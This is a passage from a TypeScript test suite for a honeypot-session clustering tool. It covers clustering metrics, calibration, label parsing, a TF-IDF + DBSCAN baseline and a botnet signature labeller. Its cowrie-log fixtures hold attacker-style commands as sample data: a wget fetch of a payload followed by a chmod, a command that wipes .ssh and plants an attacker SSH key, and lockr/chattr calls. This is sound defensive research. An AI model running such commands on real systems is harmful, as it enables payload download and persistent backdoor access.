/**
 * The evaluation side: clustering metrics of the shipped `eval` command (against brute-force
 * pair enumeration and textbook ARI values), calibration, labels and Result parsing,
 * evaluate(); and the research code in eval/: the signature labeller (exact matching, variant
 * order, conflicts), its metrics (pairwise, per-family recovery, merged-with-unlabelled), the
 * MinHash-LSH and TF-IDF + DBSCAN peers (the latter against a naive dense implementation),
 * and, when ../shared/corpora is present, the labeller and a peer on real corpora.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { Prng } from "../../src/analytics/Prng.ts"
import type { Campaign } from "../../src/domain/Campaign.ts"
import type { Result } from "../../src/domain/Result.ts"
import { calibration } from "../../src/evaluation/calibration.ts"
import { type ClusterKey, pairCounts, pairwiseScores } from "../../src/evaluation/clusteringMetrics.ts"
import { formatEvalReport, runEval } from "../../src/evaluation/evalCommand.ts"
import { evaluate, evaluatePrediction, isTrulyCoordinated, predictionFromKeys } from "../../src/evaluation/evaluate.ts"
import {
  EvalInputError,
  formatLabelsTsv,
  type Labels,
  parseLabelsTsv,
  parseResult,
  predictionFromResult
} from "../../src/evaluation/labels.ts"
import { gzipSync } from "node:zlib"
import { formatLabelsTsv as formatSignatureLabels, labelFile, labelSessions, loadSignatures, parseCowrie, readLabelsTsv } from "../../eval/labeller/labelCorpus.ts"
import { evaluatePrediction as evalEvaluate, pairwise as evalPairwise, predictionFromCampaigns } from "../../eval/metrics/metrics.ts"
import { minhash, minhashLsh, optimalBands } from "../../eval/peers/minhash-lsh.ts"
import { readCommands } from "../../eval/peers/readCommands.ts"
import { dbscan, NOISE, tfidfDbscan, tokenize } from "../../eval/peers/tfidfDbscan.ts"

// ---------------------------------------------------------------------------------------
// helpers

/** Brute force over all pairs: the definitions, without the contingency table. */
const bruteForce = (truth: ReadonlyArray<ClusterKey>, pred: ReadonlyArray<ClusterKey>) => {
  let a = 0 // together in both
  let b = 0 // together in truth only
  let c = 0 // together in prediction only
  let d = 0 // apart in both
  for (let i = 0; i < truth.length; i++) {
    for (let j = i + 1; j < truth.length; j++) {
      const t = truth[i] !== null && truth[i] === truth[j]
      const p = pred[i] !== null && pred[i] === pred[j]
      if (t && p) a++
      else if (t) b++
      else if (p) c++
      else d++
    }
  }
  const precision = a + c === 0 ? 1 : a / (a + c)
  const recall = a + b === 0 ? 1 : a / (a + b)
  const f1 = precision + recall === 0 ? 0 : (2 * precision * recall) / (precision + recall)
  // ARI from the pair confusion matrix (scikit-learn's form), an algebraically independent route.
  const ari = b === 0 && c === 0 ? 1 : (2 * (a * d - b * c)) / ((a + b) * (b + d) + (a + c) * (c + d))
  return { a, b, c, d, precision, recall, f1, ari }
}

const randomLabeling = (rng: Prng, n: number, k: number, nullShare: number): Array<ClusterKey> =>
  Array.from({ length: n }, () => (rng.next() < nullShare ? null : `k${rng.int(k)}`))

const campaign = (id: string, level: Campaign["level"], sessions: Array<string>, confidence: number, parent: string | null = null): Campaign =>
  ({
    id,
    parent_id: parent,
    level,
    name: id,
    sessions,
    source_ips: [],
    first_seen: "2024-01-01T00:00:00.000Z",
    last_seen: "2024-01-01T00:00:00.000Z",
    confidence,
    confidence_interval: [confidence, confidence],
    assessment: "coincidental",
    evidence: {},
    indicators: [],
    ttps: [],
    // Result v1 grows `formed_by`; an empty list satisfies both the old and the new schema.
    formed_by: []
  }) as Campaign

const resultWith = (campaigns: Array<Campaign>): Result => ({
  schema: "dshield-coordination/result@1",
  run: {
    id: "run-test",
    engine_version: "0.0.0-test",
    input_digest: "d",
    config_digest: "c",
    seed: 42,
    started_at: "2024-01-01T00:00:00.000Z",
    finished_at: "2024-01-01T00:00:00.000Z"
  },
  input: { files: [], events: 0, sessions: 0, rejected: {} },
  campaigns,
  unclustered_sessions: 0
})

// ---------------------------------------------------------------------------------------

describe("clustering metrics", () => {
  test("match brute-force pair enumeration on seeded random labelings", () => {
    const rng = new Prng(20240601, "evaluation:metrics")
    for (let round = 0; round < 400; round++) {
      const n = rng.int(40)
      const truth = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
      const pred = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
      const fast = pairwiseScores(truth, pred)
      const slow = bruteForce(truth, pred)
      expect(fast.agreeingPairs).toBe(slow.a)
      expect(fast.truePairs).toBe(slow.a + slow.b)
      expect(fast.predictedPairs).toBe(slow.a + slow.c)
      expect(fast.allPairs).toBe(slow.a + slow.b + slow.c + slow.d)
      expect(fast.precision).toBeCloseTo(slow.precision, 12)
      expect(fast.recall).toBeCloseTo(slow.recall, 12)
      expect(fast.f1).toBeCloseTo(slow.f1, 12)
      expect(fast.ari).toBeCloseTo(slow.ari, 9)
    }
  })

  test("textbook adjusted Rand index values (scikit-learn documentation)", () => {
    const ari = (t: Array<number>, p: Array<number>): number => pairwiseScores(t.map(String), p.map(String)).ari
    expect(ari([0, 0, 1, 1], [0, 0, 1, 1])).toBeCloseTo(1, 12)
    expect(ari([0, 0, 1, 1], [1, 1, 0, 0])).toBeCloseTo(1, 12)
    expect(ari([0, 0, 1, 2], [0, 0, 1, 1])).toBeCloseTo(4 / 7, 12) // 0.57
    expect(ari([0, 0, 1, 1], [0, 0, 1, 2])).toBeCloseTo(4 / 7, 12)
    expect(ari([0, 0, 0, 0], [0, 1, 2, 3])).toBeCloseTo(0, 12)
    expect(ari([0, 0, 1, 1], [0, 1, 0, 1])).toBeCloseTo(-0.5, 12)
  })

  test("Hubert & Arabie contingency example: 3 × 3 table", () => {
    // Rows = truth, columns = prediction: [[1,1,0],[1,2,1],[0,0,4]] (Santos & Embrechts 2009 style).
    const table = [[1, 1, 0], [1, 2, 1], [0, 0, 4]]
    const truth: Array<string> = []
    const pred: Array<string> = []
    table.forEach((row, i) => row.forEach((count, j) => {
      for (let k = 0; k < count; k++) {
        truth.push(`t${i}`)
        pred.push(`p${j}`)
      }
    }))
    const s = pairwiseScores(truth, pred)
    // Σ C(n_ij,2) = 1 + 6 = 7; a = (2,4,4) → 1 + 6 + 6 = 13; b = (2,3,5) → 1 + 3 + 10 = 14; N = C(10,2) = 45.
    expect([s.agreeingPairs, s.truePairs, s.predictedPairs, s.allPairs]).toEqual([7, 13, 14, 45])
    const expected = (13 * 14) / 45
    expect(s.ari).toBeCloseTo((7 - expected) / ((13 + 14) / 2 - expected), 12)
    expect(s.precision).toBeCloseTo(7 / 14, 12)
    expect(s.recall).toBeCloseTo(7 / 13, 12)
  })

  test("degenerate cases follow the documented rules", () => {
    // No predicted pairs, some true pairs: precision 1 (vacuous), recall 0, F1 0, ARI 0.
    const a = pairwiseScores(["x", "x", "y"], [null, null, null])
    expect([a.precision, a.recall, a.f1, a.ari]).toEqual([1, 0, 0, 0])
    // No true pairs, some predicted pairs: precision 0, recall 1, F1 0.
    const b = pairwiseScores([null, "a", "b"], ["p", "p", "p"])
    expect([b.precision, b.recall, b.f1]).toEqual([0, 1, 0])
    // Neither: everything 1 (identical all-singleton partitions).
    const c = pairwiseScores(["a", "b", "c"], [null, null, null])
    expect([c.precision, c.recall, c.f1, c.ari]).toEqual([1, 1, 1, 1])
    // Both one cluster: identical, ARI 1.
    expect(pairwiseScores(["a", "a", "a"], ["p", "p", "p"]).ari).toBe(1)
    // Fewer than two items.
    expect(pairwiseScores([], []).ari).toBe(1)
    expect(pairwiseScores(["a"], ["b"]).ari).toBe(1)
    expect(() => pairwiseScores(["a"], [])).toThrow(RangeError)
  })

  test("null keys are singletons: never equal to each other", () => {
    const withNull = pairCounts(["a", "a", null, null], [null, null, "p", "p"])
    expect(withNull.truePairs).toBe(1)
    expect(withNull.predictedPairs).toBe(1)
    expect(withNull.agreeingPairs).toBe(0)
    expect(withNull.trueClusters).toBe(3)
    const fresh = pairCounts(["a", "a", "s1", "s2"], ["s3", "s4", "p", "p"])
    expect(withNull.truePairs).toBe(fresh.truePairs)
    expect(withNull.predictedPairs).toBe(fresh.predictedPairs)
    expect(withNull.agreeingPairs).toBe(fresh.agreeingPairs)
  })

  test("linear time: 10× the items take far less than 100× the time (300k items)", () => {
    // A ratio, not a wall-clock bound: the machine may be busy, but pair enumeration would be
    // 100× slower at 10× the items while the contingency table is ~10×. Best of three runs each.
    const rng = new Prng(7, "evaluation:big")
    const time = (n: number) => {
      const truth = randomLabeling(rng, n, 50, 0.2)
      const pred = randomLabeling(rng, n, 80, 0.2)
      let best = Number.POSITIVE_INFINITY
      let s = pairwiseScores(truth, pred)
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now()
        s = pairwiseScores(truth, pred)
        best = Math.min(best, performance.now() - t0)
      }
      return { best, s }
    }
    const small = time(30_000)
    const big = time(300_000)
    expect(big.best / Math.max(small.best, 1)).toBeLessThan(40)
    expect(big.best).toBeLessThan(15_000)
    expect(Math.abs(big.s.ari)).toBeLessThan(0.01) // independent random labelings: chance level
  }, 60_000)
})

describe("calibration", () => {
  test("ECE and reliability table by hand", () => {
    const c = calibration([0.05, 0.15, 0.15, 0.95, 1.0], [false, false, true, true, true], 10)
    // bin 0: mean .05, rate 0 → .05·1/5; bin 1: mean .15, rate .5 → .35·2/5; bin 9: mean .975, rate 1 → .025·2/5.
    expect(c.ece!).toBeCloseTo(0.01 + 0.14 + 0.01, 12)
    expect(c.bins.length).toBe(10)
    expect(c.bins[0]!.count).toBe(1)
    expect(c.bins[1]!.observedRate).toBe(0.5)
    expect(c.bins[9]!.count).toBe(2) // 1.0 falls in the last bin
    expect(c.bins[9]!.meanPredicted!).toBeCloseTo(0.975, 12)
    expect(c.bins[5]!.meanPredicted).toBeNull()
    expect(c.positives).toBe(3)
  })

  test("perfect calibration gives 0, no predictions gives null, bad scores throw", () => {
    expect(calibration([0.25, 0.25, 0.25, 0.25], [true, false, false, false], 4).ece!).toBeCloseTo(0, 12)
    expect(calibration([], []).ece).toBeNull()
    expect(() => calibration([1.2], [true])).toThrow(RangeError)
    expect(() => calibration([Number.NaN], [true])).toThrow(RangeError)
    expect(() => calibration([0.5], [true], 0)).toThrow(RangeError)
  })

  test("bin count changes the table", () => {
    const c = calibration([0.1, 0.3, 0.6, 0.9], [false, false, true, true], 2)
    expect(c.bins.map((b) => b.count)).toEqual([2, 2])
    expect(c.ece!).toBeCloseTo(0.5 * 0.2 + 0.5 * 0.25, 12)
  })
})

describe("labels and results", () => {
  test("labels TSV with the five generator columns", () => {
    const l = parseLabelsTsv("session_id\tfamily\tvariant\twave\tcoordinated\ns1\tF1\tV1\tW1\t1\ns2\tF1\t-\t-\t0\ns3\t-\t-\t-\t-\n")
    expect(l.sessions.get("s1")).toEqual({ family: "F1", variant: "V1", wave: "W1", coordinated: true })
    expect(l.sessions.get("s2")).toEqual({ family: "F1", variant: null, wave: null, coordinated: false })
    expect(l.sessions.get("s3")).toEqual({ family: null, variant: null, wave: null, coordinated: null })
  })

  test("three columns, space-separated header, comments", () => {
    const l = parseLabelsTsv("# made by hand\nsession_id family variant\n\na F V\nb - -\n")
    expect(l.sessions.size).toBe(2)
    expect(l.sessions.get("a")!.family).toBe("F")
    expect(l.sessions.get("b")!.family).toBeNull()
    expect(l.sessions.get("a")!.coordinated).toBeNull()
  })

  test("errors name the line", () => {
    expect(() => parseLabelsTsv("id\tfamily\n")).toThrow(EvalInputError)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\ns1\tF\n")).toThrow(/:2: expected 3 columns/)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\ns1\tF\tV\ns1\tF\tV\n")).toThrow(/listed twice/)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\twave\tcoordinated\ns1\tF\tV\tW\tmaybe\n")).toThrow(/coordinated/)
    expect(() => parseLabelsTsv("")).toThrow(/empty/)
  })

  test("formatLabelsTsv round-trips", () => {
    const rows: Array<[string, { family: string | null; variant: string | null; wave: string | null; coordinated: boolean | null }]> = [
      ["a", { family: "F", variant: "F/1", wave: null, coordinated: true }],
      ["b", { family: null, variant: null, wave: null, coordinated: null }]
    ]
    const back = parseLabelsTsv(formatLabelsTsv(rows))
    expect([...back.sessions.entries()]).toEqual(rows)
  })

  test("predicted keys: family campaign, variant campaign else family, waves ignored", () => {
    const r = resultWith([
      campaign("F", "family", ["s1", "s2", "s3"], 0.9),
      campaign("V", "variant", ["s1", "s2"], 0.8, "F"),
      campaign("W", "wave", ["s1"], 0.5, "V")
    ])
    const p = predictionFromResult(r)
    expect(p.sessions.get("s1")).toEqual({ family: "F", variant: "V" })
    expect(p.sessions.get("s3")).toEqual({ family: "F", variant: "F" })
    expect(p.sessions.has("s4")).toBe(false)
    expect(p.warnings).toEqual([])
    const twice = predictionFromResult(resultWith([campaign("F", "family", ["s1"], 0.5), campaign("G", "family", ["s1"], 0.5)]))
    expect(twice.warnings.length).toBe(1)
  })

  test("parseResult accepts Result v1 and rejects anything else", () => {
    const r = resultWith([campaign("F", "family", ["a", "b"], 0.9)])
    expect(parseResult(JSON.parse(JSON.stringify(r))).campaigns.length).toBe(1)
    expect(() => parseResult({ schema: "other" })).toThrow(EvalInputError)
    const bad = JSON.parse(JSON.stringify(r))
    bad.campaigns[0].confidence = 3
    expect(() => parseResult(bad)).toThrow(/does not match/)
  })
})

describe("evaluate", () => {
  // Truth: A = a1..a4, B = b1..b3, background x1..x3; c1 is labelled alone in family C.
  const labels: Labels = parseLabelsTsv(
    [
      "session_id\tfamily\tvariant\twave\tcoordinated",
      "a1\tA\tA1\t-\t1",
      "a2\tA\tA1\t-\t1",
      "a3\tA\tA2\t-\t1",
      "a4\tA\tA2\t-\t1",
      "b1\tB\tB1\t-\t1",
      "b2\tB\tB1\t-\t1",
      "b3\tB\tB1\t-\t1",
      "c1\tC\tC1\t-\t0",
      "x1\t-\t-\t-\t-",
      "x2\t-\t-\t-\t-",
      "x3\t-\t-\t-\t-"
    ].join("\n")
  )
  const result = resultWith([
    // Family P: all of A, one of B and a background session; variant PV = a1, a2.
    campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1"], 0.9),
    campaign("PV", "variant", ["a1", "a2"], 0.95, "P"),
    // Family Q: b2, b3 (correct).
    campaign("Q", "family", ["b2", "b3"], 0.7),
    // Family R: only background: a false campaign.
    campaign("R", "family", ["x2", "x3"], 0.6)
  ])

  test("pairwise metrics over labelled sessions only", () => {
    const r = evaluate(result, labels)
    expect(r.labelledSessions).toBe(8)
    expect(r.backgroundSessions).toBe(3)
    // Items in order a1..a4, b1..b3, c1.
    const truth = ["A", "A", "A", "A", "B", "B", "B", "C"]
    const familyPred = ["P", "P", "P", "P", "P", "Q", "Q", null]
    const expected = pairwiseScores(truth, familyPred)
    expect(r.family.precision).toBeCloseTo(expected.precision, 12)
    expect(r.family.recall).toBeCloseTo(expected.recall, 12)
    expect(r.family.ari).toBeCloseTo(expected.ari, 12)
    // By hand: P holds C(5,2) = 10 pairs, 6 of them within A; Q holds 1 within B. True pairs 6 + 3 = 9.
    expect(r.family.predictedPairs).toBe(11)
    expect(r.family.agreeingPairs).toBe(7)
    expect(r.family.truePairs).toBe(9)
    const variantTruth = ["A1", "A1", "A2", "A2", "B1", "B1", "B1", "C1"]
    const variantPred = ["PV", "PV", "P", "P", "P", "Q", "Q", null]
    expect(r.variant!.f1).toBeCloseTo(pairwiseScores(variantTruth, variantPred).f1, 12)
    expect(r.unclusteredShare).toBeCloseTo(1 / 8, 12)
    expect(r.falseCampaigns.count).toBe(1)
    expect(r.falseCampaigns.sessions).toBe(2)
    expect(r.predictedFamilies).toBe(3)
    expect(r.trueFamilies).toBe(3)
    expect(r.trueFamiliesWithPairs).toBe(2)
  })

  test("background sessions do not move the pairwise metrics", () => {
    const moved = resultWith([
      campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1", "x2", "x3"], 0.9),
      campaign("Q", "family", ["b2", "b3"], 0.7)
    ])
    const a = evaluate(result, labels)
    const b = evaluate(moved, labels)
    expect(b.family.precision).toBe(a.family.precision)
    expect(b.family.recall).toBe(a.family.recall)
    expect(b.falseCampaigns.count).toBe(0)
  })

  test("truly coordinated needs 90% of a campaign's sessions in one true family", () => {
    const many = parseLabelsTsv(
      ["session_id\tfamily\tvariant", ...Array.from({ length: 10 }, (_, i) => `s${i}\t${i < 9 ? "A" : "B"}\t-`), "u\t-\t-"].join("\n")
    )
    const ten = Array.from({ length: 10 }, (_, i) => `s${i}`)
    expect(isTrulyCoordinated(ten, many)).toBe(true) // 9 of 10
    expect(isTrulyCoordinated([...ten.slice(0, 8), "s9", "u"], many)).toBe(false) // 8 of 10
    expect(isTrulyCoordinated([...ten.slice(0, 9), "missing"], many)).toBe(true) // an unlisted session counts against
    expect(isTrulyCoordinated(["u", "missing"], many)).toBe(false)
  })

  test("calibration uses each campaign's confidence against the 90% rule", () => {
    const r = evaluate(result, labels)
    // P: 4 of 6 in A → not coordinated (0.9); PV: 2 of 2 → coordinated (0.95); Q → coordinated (0.7); R → not (0.6).
    expect(r.calibration.campaigns.count).toBe(4)
    expect(r.calibration.campaigns.positives).toBe(2)
    // Bins: [0.9, 1.0] holds P and PV (mean 0.925, rate 0.5); [0.7, 0.8) Q; [0.6, 0.7) R.
    const expected = (2 / 4) * Math.abs(0.925 - 0.5) + (1 / 4) * Math.abs(0.7 - 1) + (1 / 4) * 0.6
    expect(r.calibration.campaigns.ece!).toBeCloseTo(expected, 12)
    expect(r.ece).toBe(r.calibration.campaigns.ece)
    expect(r.calibration.families.count).toBe(3)
  })

  test("a clustering given as keys (the baseline) scores the same as the equivalent result", () => {
    const keys = new Map<string, ClusterKey>([["a1", "k"], ["a2", "k"], ["a3", "k"], ["a4", "k"], ["b1", "k"], ["x1", "k"], ["b2", "q"], ["b3", "q"], ["c1", null], ["x2", "r"], ["x3", "r"]])
    const viaKeys = evaluatePrediction(predictionFromKeys(keys), labels)
    const viaResult = evaluate(resultWith([campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1"], 0.5), campaign("Q", "family", ["b2", "b3"], 0.5), campaign("R", "family", ["x2", "x3"], 0.5)]), labels)
    expect(viaKeys.family).toEqual(viaResult.family)
    expect(viaKeys.falseCampaigns.count).toBe(1)
  })

  describe("runEval on files", () => {
    let dir = ""
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), "dshield-eval-"))
    })
    afterAll(() => {
      if (dir !== "") rmSync(dir, { recursive: true, force: true })
    })

    test("reads both files and renders the table", () => {
      writeFileSync(join(dir, "labels.tsv"), formatLabelsTsv(labels.sessions))
      writeFileSync(join(dir, "result.json"), JSON.stringify(result))
      const report = runEval({ labelsPath: join(dir, "labels.tsv"), resultPath: join(dir, "result.json") })
      expect(report.family).toEqual(evaluate(result, labels).family)
      const text = formatEvalReport(report)
      expect(text).toContain("labelled sessions only")
      expect(text).toMatch(new RegExp(`family\\s+${report.family.precision.toFixed(3)}\\s+${report.family.recall.toFixed(3)}\\s`))
      expect(text).toContain("false campaigns 1 (2 sessions)")
    })

    test("missing or malformed files are EvalInputError with one sentence", () => {
      expect(() => runEval({ labelsPath: join(dir, "nope.tsv"), resultPath: join(dir, "result.json") })).toThrow(EvalInputError)
      writeFileSync(join(dir, "broken.json"), "{not json")
      expect(() => runEval({ labelsPath: join(dir, "labels.tsv"), resultPath: join(dir, "broken.json") })).toThrow(/not valid JSON/)
    })
  })
})

describe("TF-IDF + DBSCAN baseline", () => {
  test("DBSCAN on a hand example: cores, a border point seen first, noise", () => {
    // 1-D points; eps 0.95, min_samples 3. 1.7 has only 0.8 within eps (2 points with itself):
    // a border point of the first cluster, although it comes first in the input.
    const xs = [1.7, 0, 0.4, 0.8, 3.0, 3.4, 3.8, 10, 20, 20.5]
    const hood = (i: number) => xs.flatMap((x, j) => (Math.abs(x - xs[i]!) <= 0.95 ? [j] : []))
    expect(Array.from(dbscan(xs.length, hood, 3))).toEqual([0, 0, 0, 0, 1, 1, 1, NOISE, NOISE, NOISE])
  })

  test("DBSCAN on 2-D points and with multiplicities", () => {
    const pts = [[0, 0], [0, 1], [1, 0], [1, 1], [10, 10], [10, 11], [10, 12], [5, 5]] as const
    const hood = (i: number) =>
      pts.flatMap((p, j) => (Math.hypot(p[0] - pts[i]![0], p[1] - pts[i]![1]) <= 1.1 ? [j] : []))
    // (10,10) and (10,12) are border points of the cluster around (10,11).
    expect(Array.from(dbscan(pts.length, hood, 3))).toEqual([0, 0, 0, 0, 1, 1, 1, NOISE])
    // One point standing for three identical points is a core point on its own.
    expect(Array.from(dbscan(2, (i) => [i], 3, [3, 2]))).toEqual([0, NOISE])
  })

  test("tokens follow TfidfVectorizer's default pattern", () => {
    expect(tokenize("uname -a; cat /proc/cpuinfo | grep name | wc -l")).toEqual(["uname", "cat", "proc", "cpuinfo", "grep", "name", "wc"])
    expect(tokenize("x y z")).toEqual([])
  })

  test("sessions without commands are noise; identical command sessions cluster", () => {
    const r = tfidfDbscan([
      { id: "a", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "b", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "c", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "d", commands: ["wget http://192.0.2.1/x; chmod 777 x"] },
      { id: "e", commands: [] },
      { id: "f", commands: ["a b"] }
    ])
    expect(r.keys.get("a")).not.toBeNull()
    expect(r.keys.get("b")).toBe(r.keys.get("a")!)
    expect(r.keys.get("c")).toBe(r.keys.get("a")!)
    expect(r.keys.get("d")).toBeNull()
    expect(r.keys.get("e")).toBeNull()
    expect(r.keys.get("f")).toBeNull()
    expect(r.documents).toBe(5)
    expect(r.distinctDocuments).toBe(2)
    expect(r.clusters).toBe(1)
  })

  test("equals a naive dense TF-IDF + all-pairs DBSCAN on random command sessions", () => {
    const vocab = ["uname", "cat", "proc", "cpuinfo", "wget", "curl", "chmod", "tmp", "busybox", "echo", "ssh", "rm", "rf", "passwd", "crontab", "free", "top", "ps", "grep", "kill"]
    const rng = new Prng(99, "evaluation:tfidf")
    for (let round = 0; round < 20; round++) {
      const sessions = Array.from({ length: 60 }, (_, i) => {
        if (rng.next() < 0.1) return { id: `s${i}`, commands: [] as Array<string> }
        // A few templates with noise, so clusters, borders and noise all occur.
        const template = rng.int(4)
        const words: Array<string> = []
        for (let k = 0; k < 3 + rng.int(5); k++) words.push(vocab[(template * 5 + rng.int(rng.next() < 0.7 ? 5 : 20)) % vocab.length]!)
        return { id: `s${i}`, commands: [words.join(" ")] }
      })
      const fast = tfidfDbscan(sessions)
      // Naive: dense vectors over every document, cosine by full dot products.
      const docs = sessions.map((s) => (s.commands.length === 0 ? null : tokenize(s.commands.join("\n"))))
      const present = docs.filter((d): d is Array<string> => d !== null)
      const terms = [...new Set(present.flat())]
      const df = terms.map((t) => present.filter((d) => d.includes(t)).length)
      const vec = docs.map((d) => {
        if (d === null || d.length === 0) return null
        const v = terms.map((t, k) => d.filter((w) => w === t).length * (Math.log((1 + present.length) / (1 + df[k]!)) + 1))
        const norm = Math.hypot(...v)
        return v.map((x) => x / norm)
      })
      const idx = vec.flatMap((v, i) => (v === null ? [] : [i]))
      const hood = (a: number) => idx.flatMap((i, j) => (1 - vec[idx[a]!]!.reduce((s, x, k) => s + x * vec[i]![k]!, 0) <= 0.5 + 1e-12 ? [j] : []))
      const labels = dbscan(idx.length, hood, 3)
      const naive = new Map<string, ClusterKey>(sessions.map((s) => [s.id, null]))
      idx.forEach((i, j) => naive.set(sessions[i]!.id, labels[j]! === NOISE ? null : `n${labels[j]}`))
      const ids = sessions.map((s) => s.id)
      const s = pairwiseScores(ids.map((id) => naive.get(id)!), ids.map((id) => fast.keys.get(id)!))
      expect(s.ari).toBe(1)
      expect(s.predictedPairs).toBe(s.truePairs)
      expect(ids.filter((id) => fast.keys.get(id) === null).length).toBe(ids.filter((id) => naive.get(id) === null).length)
    }
  })

  test("10k command sessions in well under the time budget", () => {
    const rng = new Prng(5, "evaluation:tfidf-big")
    const words = Array.from({ length: 3000 }, (_, i) => `w${i}`)
    const sessions = Array.from({ length: 10_000 }, (_, i) => ({
      id: `s${i}`,
      commands: [Array.from({ length: 4 + rng.int(12) }, () => words[Math.floor(Math.pow(rng.next(), 3) * words.length)]!).join(" ")]
    }))
    const t0 = performance.now()
    const r = tfidfDbscan(sessions)
    expect(performance.now() - t0).toBeLessThan(20_000)
    expect(r.documents).toBe(10_000)
  })
})

// ---------------------------------------------------------------------------------------
// eval/: the signature labeller, the metrics and the MinHash-LSH peer (independent of src/)

const SIGS = loadSignatures().signatures
const sigOf = (id: string) => {
  const s = SIGS.find((x) => x.id === id)
  if (s === undefined) throw new Error(`no signature ${id}`)
  return s
}

/** A hand-written cowrie log (documentation addresses, no corpus data), one JSON per line. */
const cowrieLine = (session: string, eventid: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ eventid, session, src_ip: "192.0.2.1", timestamp: "2024-01-01T00:00:00.000Z", ...extra })

describe("signature labeller (eval/labeller)", () => {
  const key = sigOf("dota-mdrfckr-key").value
  const sha = sigOf("dota-mdrfckr-authorized-keys-sha256").value
  const marker = sigOf("var03522123-marker").value
  const log = [
    cowrieLine("s-key", "cowrie.session.connect"),
    cowrieLine("s-key", "cowrie.login.success", { username: "root", password: "x9" }),
    cowrieLine("s-key", "cowrie.command.input", { input: `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${key}">>.ssh/authorized_keys` }),
    cowrieLine("s-lockr", "cowrie.command.input", { input: "cd ~; chattr -ia .ssh; lockr -ia .ssh" }),
    cowrieLine("s-lockr", "cowrie.session.file_download", { shasum: sha }),
    cowrieLine("s-sha", "cowrie.session.file_download", { shasum: sha }),
    "not json at all",
    "[1,2,3]",
    cowrieLine("s-cred", "cowrie.login.failed", { username: "345gs5662d34", password: "345gs5662d34" }),
    cowrieLine("s-pass", "cowrie.login.failed", { username: "superadmin", password: "3245gs5662d34" }),
    // Same password with another user name than the credential signature: only `password` kinds match.
    cowrieLine("s-near", "cowrie.login.failed", { username: "root", password: "345gs5662d34" }),
    // Case and spacing differ from the signature: exact matching does not label it.
    cowrieLine("s-case", "cowrie.command.input", { input: "LOCKR -ia .ssh" }),
    // Two families in one session: a conflict, never a label.
    cowrieLine("s-both", "cowrie.command.input", { input: "lockr -ia .ssh" }),
    cowrieLine("s-both", "cowrie.command.input", { input: `echo "321" > ${marker}` }),
    cowrieLine("s-none", "cowrie.login.failed", { username: "root", password: "admin" })
  ].join("\n")

  test("parses raw and gzip input alike, counting lines that are not JSON objects", () => {
    const plain = parseCowrie(new TextEncoder().encode(log))
    const gz = parseCowrie(gzipSync(new TextEncoder().encode(log)))
    expect(gz.sessions.size).toBe(plain.sessions.size)
    expect(plain.sessions.size).toBe(9)
    expect(plain.invalidLines).toBe(2)
    expect(plain.sessions.get("s-lockr")!.shasums).toEqual([sha])
  })

  test("exact matches label; a family's variant is its first matching signature in file order", () => {
    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
    expect(l.labels.get("s-key")).toEqual({ family: "dota-mdrfckr", variant: "key" })
    expect(l.labels.get("s-lockr")).toEqual({ family: "dota-mdrfckr", variant: "lockr" }) // lockr listed before the sha
    expect(l.labels.get("s-sha")).toEqual({ family: "dota-mdrfckr", variant: "key" })
    expect(l.labels.get("s-cred")).toEqual({ family: "dota-mdrfckr", variant: "check-login-345gs5662d34" })
    expect(l.labels.get("s-pass")).toEqual({ family: "dota-mdrfckr", variant: "check-login-3245gs5662d34" })
    expect(l.labels.has("s-near")).toBe(false)
    expect(l.labels.has("s-case")).toBe(false)
    expect(l.labels.has("s-none")).toBe(false)
  })

  test("two families in one session: a conflict, counted, not labelled", () => {
    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
    expect(l.labels.has("s-both")).toBe(false)
    expect(l.conflicts.get("s-both")).toEqual(["dota-mdrfckr", "var03522123-marker"])
    expect(l.stats.conflicts).toEqual({ "dota-mdrfckr+var03522123-marker": 1 })
    expect(l.stats.labelledSessions).toBe(5)
    expect(l.stats.families).toEqual({ "dota-mdrfckr": 5 })
    expect(l.stats.signatureHits["dota-mdrfckr-lockr"]).toBe(2) // s-lockr and the conflicting s-both
  })

  test("the labels TSV round-trips and is readable by the shipped `eval` command", () => {
    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
    const tsv = formatSignatureLabels(l.labels)
    expect(readLabelsTsv(tsv)).toEqual(l.labels)
    const parsed = parseLabelsTsv(tsv)
    expect(parsed.sessions.size).toBe(l.labels.size)
    expect(parsed.sessions.get("s-lockr")).toEqual({ family: "dota-mdrfckr", variant: "lockr", wave: null, coordinated: null })
  })

  test("the signature file is checked when loaded", () => {
    const dir = mkdtempSync(join(tmpdir(), "dshield-sigs-"))
    try {
      const bad = { version: 1, description: "x", signatures: [{ ...SIGS[0]!, source: { ...SIGS[0]!.source, url: "http://example.org/a" } }] }
      writeFileSync(join(dir, "s.json"), JSON.stringify(bad))
      expect(() => loadSignatures(join(dir, "s.json"))).toThrow(/https/)
      const dup = { version: 1, description: "x", signatures: [SIGS[0]!, SIGS[0]!] }
      writeFileSync(join(dir, "d.json"), JSON.stringify(dup))
      expect(() => loadSignatures(join(dir, "d.json"))).toThrow(/duplicate/)
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe("eval metrics (eval/metrics)", () => {
  test("pairwise scores equal brute-force pair enumeration on random labelings", () => {
    const rng = new Prng(17, "evaluation:eval-metrics")
    for (let round = 0; round < 100; round++) {
      const n = 2 + rng.int(60)
      const truth = Array.from({ length: n }, () => `t${rng.int(1 + rng.int(5))}`)
      const pred = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
      const fast = evalPairwise(truth, pred)
      const slow = bruteForce(truth, pred)
